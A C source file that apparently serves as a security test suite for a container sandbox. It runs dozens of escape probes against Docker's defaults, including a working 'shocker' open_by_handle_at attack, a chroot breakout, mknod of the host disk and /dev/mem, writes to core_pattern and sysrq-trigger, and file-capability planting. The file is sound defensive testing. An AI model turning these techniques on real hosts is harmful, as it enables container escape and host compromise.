/*
 * Attacks on the kernel from inside a container with docker's defaults: privileged syscalls,
 * mounts, namespaces, keyrings, modules, devices, /proc and /sys, cgroups, raw sockets, chroot.
 * Usage: kernel-attacks <attack>... (or "all"). Each attack prints one line (probe.h).
 *
 * Arguments are chosen so that a call which passed its permission check still fails harmlessly
 * (a bad magic number, an unknown module, a file without a swap signature): the probe must not
 * hurt the host even if berth were broken.
 */
#include "probe.h"
#include <dirent.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/kexec.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <sys/timex.h>
#include <net/if.h>
#include <netinet/in.h>
#include <linux/if_ether.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <grp.h>

static void attack_mount(void) {
  mkdir("/tmp/probe-mnt", 0755);
  long rc = mount("none", "/tmp/probe-mnt", "tmpfs", 0, "");
  report_call("mount a tmpfs", rc, errno, "mount(tmpfs)");
  if (rc == 0) umount2("/tmp/probe-mnt", MNT_DETACH);
}

static void attack_bind_proc(void) {
  mkdir("/tmp/probe-proc", 0755);
  long rc = mount("/proc", "/tmp/probe-proc", NULL, MS_BIND | MS_REC, NULL);
  report_call("bind-mount /proc (unmasked copy)", rc, errno, "mount(/proc, MS_BIND|MS_REC)");
  if (rc == 0) umount2("/tmp/probe-proc", MNT_DETACH);
}

static void attack_mount_cgroup(void) {
  mkdir("/tmp/probe-cg", 0755);
  long rc = mount("cgroup", "/tmp/probe-cg", "cgroup", 0, "memory");
  report_call("mount a cgroup v1 hierarchy (release_agent, CVE-2022-0492)", rc, errno, "mount(cgroup, memory)");
  if (rc == 0) umount2("/tmp/probe-cg", MNT_DETACH);
}

static void attack_fsopen(void) {
  long rc = syscall(SYS_fsopen, "tmpfs", 0);
  report_call("new mount API (fsopen)", rc, errno, "fsopen(tmpfs)");
  if (rc >= 0) close((int)rc);
}

static void attack_umount(void) {
  long rc = umount2("/proc", MNT_DETACH);
  report_call("umount /proc", rc, errno, "umount2(/proc)");
}

static void attack_unmask(void) {
  const char *masked[] = {"/proc/keys", "/proc/timer_list", "/proc/interrupts", "/proc/kcore", NULL};
  for (int i = 0; masked[i]; i++) {
    if (access(masked[i], F_OK) < 0) continue;
    long rc = umount2(masked[i], 0);
    report_call("unmask a masked path (umount)", rc, errno, masked[i]);
    return;
  }
  report("unmask a masked path (umount)", "absent", 0, "none of the masked /proc files exists");
}

static void attack_remount(const char *attack, const char *path) {
  long rc = mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
  report_call(attack, rc, errno, path);
}

static void attack_unshare(const char *attack, int flag, const char *what) {
  long rc = unshare(flag);
  report_call(attack, rc, errno, what);
}

static void attack_clone_newuser(void) {
  long rc = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, NULL);
  if (rc == 0) _exit(0);
  int err = errno;
  if (rc > 0) waitpid((pid_t)rc, NULL, 0);
  report_call("clone(CLONE_NEWUSER)", rc, err, "clone");
}

static void attack_clone3_newuser(void) {
  struct clone_args args;
  memset(&args, 0, sizeof args);
  args.flags = CLONE_NEWUSER;
  args.exit_signal = SIGCHLD;
  long rc = syscall(SYS_clone3, &args, sizeof args);
  if (rc == 0) _exit(0);
  int err = errno;
  if (rc > 0) waitpid((pid_t)rc, NULL, 0);
  report_call("clone3(CLONE_NEWUSER)", rc, err, "clone3");
}

static void attack_keys(void) {
  long rc = syscall(SYS_add_key, "user", "berth-probe", "x", 1, KEY_SPEC_PROCESS_KEYRING);
  report_call("add_key", rc, errno, "add_key(user)");
  rc = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0);
  report_call("keyctl (the host root's user keyring)", rc, errno, "keyctl(GET_KEYRING_ID, USER_KEYRING)");
  rc = syscall(SYS_request_key, "user", "berth-probe-none", NULL, 0);
  report_call("request_key", rc, errno, "request_key(user)");
}

static void attack_kexec(void) {
  /* an architecture that does not exist: EINVAL once the CAP_SYS_BOOT check has passed */
  long rc = syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0x7fff0000UL);
  report_call("kexec_load", rc, errno, "kexec_load(bad arch)");
  rc = syscall(SYS_kexec_file_load, -1, -1, 0UL, "", 0x7fffffffUL);
  report_call("kexec_file_load", rc, errno, "kexec_file_load(bad flags)");
}

static void attack_modules(void) {
  long rc = syscall(SYS_init_module, NULL, 0UL, "");
  report_call("init_module", rc, errno, "init_module(empty image)");
  int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
  rc = syscall(SYS_finit_module, fd, "", 0);
  report_call("finit_module", rc, errno, "finit_module(/dev/null)");
  close(fd);
  rc = syscall(SYS_delete_module, "berth_probe_no_such_module", O_NONBLOCK);
  report_call("delete_module", rc, errno, "delete_module(unknown)");
}

static void attack_reboot(void) {
  /* a bad magic number: EINVAL once the CAP_SYS_BOOT check has passed */
  long rc = syscall(SYS_reboot, 0xdeadbeef, 0, 0, NULL);
  report_call("reboot", rc, errno, "reboot(bad magic)");
}

static void attack_swapon(void) {
  int fd = open("/tmp/probe-swap", O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0600);
  static char zeros[65536];
  if (fd >= 0) {
    if (write(fd, zeros, sizeof zeros) < 0) {
      /* the open or swapon below reports the problem */
    }
    close(fd);
  }
  long rc = syscall(SYS_swapon, "/tmp/probe-swap", 0);
  report_call("swapon", rc, errno, "swapon(file without a signature)");
  unlink("/tmp/probe-swap");
}

static void attack_hostname(void) {
  long rc = sethostname("pwned", 5);
  report_call("sethostname", rc, errno, "sethostname");
}

static void attack_time(void) {
  struct timex tx;
  memset(&tx, 0, sizeof tx);
  tx.modes = ADJ_TICK;
  tx.tick = 1; /* out of range: EINVAL once the CAP_SYS_TIME check has passed */
  long rc = syscall(SYS_adjtimex, &tx);
  report_call("set the clock (adjtimex)", rc, errno, "adjtimex(ADJ_TICK)");
}

static void attack_io_ports(void) {
#if defined(__x86_64__) || defined(__i386__)
  long rc = syscall(SYS_ioperm, 0x80UL, 1UL, 1);
  report_call("ioperm (raw I/O ports)", rc, errno, "ioperm(0x80)");
  if (rc == 0) syscall(SYS_ioperm, 0x80UL, 1UL, 0);
#else
  report("ioperm (raw I/O ports)", "absent", 0, "not an x86 machine");
#endif
}

static void attack_bpf(void) {
  union bpf_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.prog_type = BPF_PROG_TYPE_KPROBE;
  long rc = syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr);
  report_call("bpf (load a kprobe program)", rc, errno, "bpf(PROG_LOAD)");
  if (rc >= 0) close((int)rc);
}

static void attack_perf(void) {
  struct perf_event_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.size = sizeof attr;
  attr.type = PERF_TYPE_SOFTWARE;
  attr.config = PERF_COUNT_SW_CPU_CLOCK;
  /* every process on cpu 0: the host's too */
  long rc = syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0UL);
  report_call("perf_event_open (system-wide)", rc, errno, "perf_event_open(pid -1, cpu 0)");
  if (rc >= 0) close((int)rc);
}

static void attack_userfaultfd(void) {
  long rc = syscall(SYS_userfaultfd, 0);
  report_call("userfaultfd", rc, errno, "userfaultfd");
  if (rc >= 0) close((int)rc);
}

static void attack_acct(void) {
  long rc = syscall(SYS_acct, NULL);
  report_call("process accounting (acct)", rc, errno, "acct(NULL)");
}

/* "shocker" (2014): open_by_handle_at with a guessed handle of inode 2, the root directory of an
 * ext4 file system, through any fd on that file system: the container's rootfs is on the host's
 * disk. Needs CAP_DAC_READ_SEARCH, which docker does not grant. */
static void attack_shocker(void) {
  struct {
    struct file_handle h;
    unsigned char bytes[8];
  } fh;
  memset(&fh, 0, sizeof fh);
  fh.h.handle_bytes = 8;
  fh.h.handle_type = 1; /* FILEID_INO32_GEN: inode 2, generation 0 */
  uint32_t ino = 2;
  memcpy(fh.h.f_handle, &ino, sizeof ino);
  int mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  long rc = syscall(SYS_open_by_handle_at, mount_fd, &fh.h, O_RDONLY | O_DIRECTORY);
  int err = errno;
  close(mount_fd);
  if (rc < 0 && is_denial(err)) {
    report("open_by_handle_at (shocker)", "blocked", err, "open_by_handle_at(inode 2)");
  } else if (rc >= 0 && !is_outside_root((int)rc)) {
    report("open_by_handle_at (shocker)", "contained", 0, "the handle opened a directory inside the container");
  } else {
    report("open_by_handle_at (shocker)", "ESCAPED", rc < 0 ? err : 0, "open_by_handle_at passed the permission check (rc %ld)", rc);
  }
  if (rc >= 0) close((int)rc);
}

static void list_interfaces(char *out, size_t len) {
  struct if_nameindex *ifs = if_nameindex();
  out[0] = '\0';
  for (struct if_nameindex *i = ifs; i && i->if_index; i++) {
    size_t n = strlen(out);
    snprintf(out + n, len - n, "%s%s", n ? "," : "", i->if_name);
  }
  if (ifs) if_freenameindex(ifs);
}

/* With CAP_NET_RAW (docker grants it) a raw socket opens, but only onto the container's own
 * network namespace: the attack is to reach the host's interfaces, so "contained" needs lo alone. */
static void attack_raw_socket(const char *attack, int family, int type, int proto) {
  int fd = socket(family, type | SOCK_CLOEXEC, proto);
  int err = errno;
  if (fd < 0) {
    report(attack, is_denial(err) ? "blocked" : "ESCAPED", err, "socket");
    return;
  }
  close(fd);
  char ifs[512];
  list_interfaces(ifs, sizeof ifs);
  report(attack, strcmp(ifs, "lo") == 0 ? "contained" : "ESCAPED", 0, "opened; interfaces visible: %s", ifs);
}

static void attack_open_write(const char *attack, const char *const *paths) {
  for (int i = 0; paths[i]; i++) {
    int fd = open(paths[i], O_WRONLY | O_CLOEXEC);
    int err = errno;
    if (fd < 0 && err == ENOENT) continue;
    if (fd >= 0) {
      close(fd);
      report(attack, "ESCAPED", 0, "%s opened for writing", paths[i]);
    } else {
      report(attack, is_denial(err) ? "blocked" : "ESCAPED", err, "%s", paths[i]);
    }
    return;
  }
  report(attack, "absent", ENOENT, "%s", paths[0]);
}

static void attack_read_masked(const char *attack, const char *path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  int err = errno;
  if (fd < 0) {
    report(attack, err == ENOENT ? "absent" : is_denial(err) ? "blocked" : "ESCAPED", err, "%s", path);
    return;
  }
  char buf[256];
  ssize_t n = read(fd, buf, sizeof buf);
  close(fd);
  if (n == 0) report(attack, "blocked", 0, "%s reads as empty (masked)", path);
  else report(attack, "ESCAPED", n < 0 ? errno : 0, "%s: read %zd bytes", path, n);
}

/* mknod works (docker grants CAP_MKNOD); the devices cgroup refuses the open. The disk is the
 * one the container's rootfs lives on, read from stat("/"). */
static void attack_device(const char *attack, const char *path, dev_t dev, mode_t type) {
  unlink(path);
  if (mknod(path, type | 0600, dev) < 0) {
    report(attack, is_denial(errno) ? "blocked" : "ESCAPED", errno, "mknod %u:%u", major(dev), minor(dev));
    return;
  }
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  int err = errno;
  if (fd >= 0) {
    close(fd);
    report(attack, "ESCAPED", 0, "mknod %u:%u and open succeeded", major(dev), minor(dev));
  } else {
    report(attack, is_denial(err) ? "blocked" : "ESCAPED", err, "mknod %u:%u worked, open refused", major(dev), minor(dev));
  }
  unlink(path);
}

static void attack_cgroup_limits(void) {
  const char *files[] = {"/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/cgroup.procs", NULL};
  attack_open_write("raise the container's own cgroup limits", files);
  const char *dirs[] = {"/sys/fs/cgroup/memory/escape", "/sys/fs/cgroup/unified/escape", "/sys/fs/cgroup/escape", NULL};
  for (int i = 0; dirs[i]; i++) {
    if (mkdir(dirs[i], 0755) == 0) {
      rmdir(dirs[i]);
      report("create a cgroup (to escape the limits)", "ESCAPED", 0, "mkdir %s", dirs[i]);
      return;
    }
    if (errno == ENOENT) continue;
    report("create a cgroup (to escape the limits)", is_denial(errno) ? "blocked" : "ESCAPED", errno, "mkdir %s", dirs[i]);
    return;
  }
  report("create a cgroup (to escape the limits)", "absent", ENOENT, "no cgroup hierarchy mounted");
}

/* The classic chroot escape, with the CAP_SYS_CHROOT docker grants: chroot into a subdirectory
 * while keeping the cwd above it, then walk up. After pivot_root, with the old root unmounted,
 * the walk ends at the container's root. */
static void attack_chroot(void) {
  struct stat before;
  stat("/", &before);
  pid_t p = fork();
  if (p == 0) {
    mkdir("/tmp/probe-chroot", 0755);
    if (chroot("/tmp/probe-chroot") < 0) _exit(10);
    for (int i = 0; i < 128; i++)
      if (chdir("..") < 0) break;
    if (chroot(".") < 0) _exit(11);
    struct stat after;
    if (stat("/", &after) < 0) _exit(12);
    _exit(after.st_dev == before.st_dev && after.st_ino == before.st_ino ? 0 : 1);
  }
  int st = 0;
  waitpid(p, &st, 0);
  int code = WIFEXITED(st) ? WEXITSTATUS(st) : 100;
  if (code == 0) report("chroot escape (CAP_SYS_CHROOT)", "contained", 0, "walking up ends at the container's root");
  else if (code == 10 || code == 11) report("chroot escape (CAP_SYS_CHROOT)", "blocked", EPERM, "chroot refused");
  else report("chroot escape (CAP_SYS_CHROOT)", "ESCAPED", 0, "reached a root other than the container's (code %d)", code);
}

/* /proc/1 is the container's init; its root must be the container's root. */
static void attack_proc1_root(void) {
  int fd = open("/proc/1/root", O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (fd < 0) {
    report("reach the host through /proc/1/root", is_denial(errno) ? "blocked" : "ESCAPED", errno, "open /proc/1/root");
    return;
  }
  report("reach the host through /proc/1/root", is_outside_root(fd) ? "ESCAPED" : "contained", 0, "/proc/1/root is the container's root");
  close(fd);
}

/* Every fd above 2 that the runtime left open would be a leak; a directory outside the root an
 * escape. */
static void attack_fds(const char *attack) {
  DIR *d = opendir("/proc/self/fd");
  int own = d ? dirfd(d) : -1;
  char extra[512] = "";
  int outside = 0;
  struct dirent *e;
  while (d && (e = readdir(d))) {
    int fd = atoi(e->d_name);
    if (e->d_name[0] == '.' || fd <= 2 || fd == own) continue;
    char link[256] = "", path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, link, sizeof link - 1);
    if (n > 0) link[n] = '\0';
    struct stat st;
    if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode) && is_outside_root(fd)) outside = 1;
    size_t len = strlen(extra);
    snprintf(extra + len, sizeof extra - len, "%s%d->%s", len ? " " : "", fd, link);
  }
  if (d) closedir(d);
  if (outside) report(attack, "ESCAPED", 0, "a directory outside the root: %s", extra);
  else if (extra[0]) report(attack, "ESCAPED", 0, "fds left open by the runtime: %s", extra);
  else report(attack, "contained", 0, "no fd above 2");
}

/* CAP_SETFCAP (docker grants it) lets root in the container give a file any capability; a user
 * who runs it must still get nothing outside the bounding set. With the effective bit the
 * kernel refuses the exec (it cannot grant what the file demands); without it the program runs
 * without the capability. The program is whoami-caps, which prints its sets. */
static void run_as_user(const char *attack, const char *path) {
  int pipefd[2];
  if (pipe2(pipefd, O_CLOEXEC) < 0) return;
  pid_t p = fork();
  if (p == 0) {
    dup2(pipefd[1], 1);
    if (setgroups(0, NULL) < 0 || setresgid(1000, 1000, 1000) < 0 || setresuid(1000, 1000, 1000) < 0) _exit(120);
    char *argv[] = {(char *)path, NULL};
    execv(path, argv);
    _exit(errno == EPERM ? 121 : 122);
  }
  close(pipefd[1]);
  char out[256] = "";
  ssize_t n = read(pipefd[0], out, sizeof out - 1);
  if (n > 0) out[n] = '\0';
  close(pipefd[0]);
  int st = 0;
  waitpid(p, &st, 0);
  int code = WIFEXITED(st) ? WEXITSTATUS(st) : 100;
  if (code == 121) {
    report(attack, "blocked", EPERM, "the kernel refused to exec a file demanding CAP_SYS_ADMIN");
    return;
  }
  unsigned long long prm = 0, eff = 0;
  char *caps = strstr(out, "caps\t");
  if (code != 0 || !caps || sscanf(caps + 5, "%llx %llx", &prm, &eff) != 2) {
    report(attack, "ESCAPED", 0, "unexpected result (exit %d): %s", code, out);
    return;
  }
  int has = ((prm | eff) >> CAP_SYS_ADMIN) & 1;
  report(attack, has ? "ESCAPED" : "contained", 0, "ran as uid 1000 with CapPrm %llx CapEff %llx", prm, eff);
}

static void attack_file_caps(void) {
  const char *copy = "/tmp/probe-fcap";
  int in = open("/probes/whoami-caps", O_RDONLY | O_CLOEXEC);
  int out = open(copy, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0755);
  char buf[65536];
  ssize_t n;
  while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0)
    if (write(out, buf, (size_t)n) != n) break;
  if (in >= 0) close(in);
  if (out >= 0) close(out);
  chmod(copy, 0755);
  for (int effective = 1; effective >= 0; effective--) {
    const char *attack = effective ? "file capability CAP_SYS_ADMIN+ep (CAP_SETFCAP)" : "file capability CAP_SYS_ADMIN+p (CAP_SETFCAP)";
    struct vfs_cap_data cap;
    memset(&cap, 0, sizeof cap);
    cap.magic_etc = VFS_CAP_REVISION_2 | (effective ? VFS_CAP_FLAGS_EFFECTIVE : 0);
    cap.data[0].permitted = 1u << CAP_SYS_ADMIN;
    if (setxattr(copy, "security.capability", &cap, XATTR_CAPS_SZ_2, 0) < 0) {
      report(attack, is_denial(errno) ? "blocked" : "ESCAPED", errno, "setxattr security.capability");
      continue;
    }
    run_as_user(attack, copy);
  }
  unlink(copy);
}

struct attack {
  const char *name;
  void (*run)(void);
};

static void a_remount_sys(void) { attack_remount("remount /sys read-write", "/sys"); }
static void a_remount_cgroup(void) { attack_remount("remount the cgroup mount read-write", "/sys/fs/cgroup"); }
static void a_unshare_user(void) { attack_unshare("unshare a user namespace", CLONE_NEWUSER, "unshare(CLONE_NEWUSER)"); }
static void a_unshare_mount(void) { attack_unshare("unshare a mount namespace", CLONE_NEWNS, "unshare(CLONE_NEWNS)"); }
static void a_raw_inet(void) { attack_raw_socket("raw IP socket", AF_INET, SOCK_RAW, IPPROTO_ICMP); }
static void a_raw_packet(void) { attack_raw_socket("packet socket (sniff or spoof)", AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)); }
static void a_proc_sys(void) {
  const char *p[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", NULL};
  attack_open_write("write /proc/sys (core_pattern)", p);
}
static void a_sysrq(void) {
  const char *p[] = {"/proc/sysrq-trigger", NULL};
  attack_open_write("write /proc/sysrq-trigger", p);
}
static void a_sys(void) {
  const char *p[] = {"/sys/kernel/uevent_helper", "/sys/kernel/profiling", "/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled", NULL};
  attack_open_write("write /sys (uevent_helper, power)", p);
}
static void a_kcore(void) { attack_read_masked("read /proc/kcore", "/proc/kcore"); }
static void a_masked(void) {
  attack_read_masked("read masked /proc/keys", "/proc/keys");
  attack_read_masked("read masked /proc/timer_list", "/proc/timer_list");
}
static void a_mknod_disk(void) {
  struct stat st;
  stat("/", &st);
  attack_device("mknod the host disk and open it", "/tmp/probe-disk", st.st_dev, S_IFBLK);
}
static void a_mknod_mem(void) { attack_device("mknod /dev/mem and open it", "/tmp/probe-mem", makedev(1, 1), S_IFCHR); }
static void a_fds(void) { attack_fds("leaked fds in the container's process"); }

static const struct attack ATTACKS[] = {
    {"mount", attack_mount},
    {"bind-proc", attack_bind_proc},
    {"mount-cgroup", attack_mount_cgroup},
    {"fsopen", attack_fsopen},
    {"umount", attack_umount},
    {"unmask", attack_unmask},
    {"remount-sys", a_remount_sys},
    {"remount-cgroup", a_remount_cgroup},
    {"unshare-user", a_unshare_user},
    {"unshare-mount", a_unshare_mount},
    {"clone-newuser", attack_clone_newuser},
    {"clone3-newuser", attack_clone3_newuser},
    {"keys", attack_keys},
    {"kexec", attack_kexec},
    {"modules", attack_modules},
    {"reboot", attack_reboot},
    {"swapon", attack_swapon},
    {"hostname", attack_hostname},
    {"time", attack_time},
    {"ioperm", attack_io_ports},
    {"bpf", attack_bpf},
    {"perf", attack_perf},
    {"userfaultfd", attack_userfaultfd},
    {"acct", attack_acct},
    {"shocker", attack_shocker},
    {"raw-inet", a_raw_inet},
    {"raw-packet", a_raw_packet},
    {"proc-sys", a_proc_sys},
    {"sysrq", a_sysrq},
    {"sys", a_sys},
    {"kcore", a_kcore},
    {"masked", a_masked},
    {"mknod-disk", a_mknod_disk},
    {"mknod-mem", a_mknod_mem},
    {"cgroup", attack_cgroup_limits},
    {"chroot", attack_chroot},
    {"proc1-root", attack_proc1_root},
    {"fds", a_fds},
    {"file-caps", attack_file_caps},
};

int main(int argc, char **argv) {
  size_t n = sizeof ATTACKS / sizeof ATTACKS[0];
  for (int i = 1; i < argc; i++) {
    int found = 0;
    for (size_t j = 0; j < n; j++) {
      if (strcmp(argv[i], "all") == 0 || strcmp(argv[i], ATTACKS[j].name) == 0) {
        ATTACKS[j].run();
        found = 1;
      }
    }
    if (!found) {
      fprintf(stderr, "kernel-attacks: unknown attack \"%s\"\n", argv[i]);
      return 2;
    }
  }
  return 0;
}
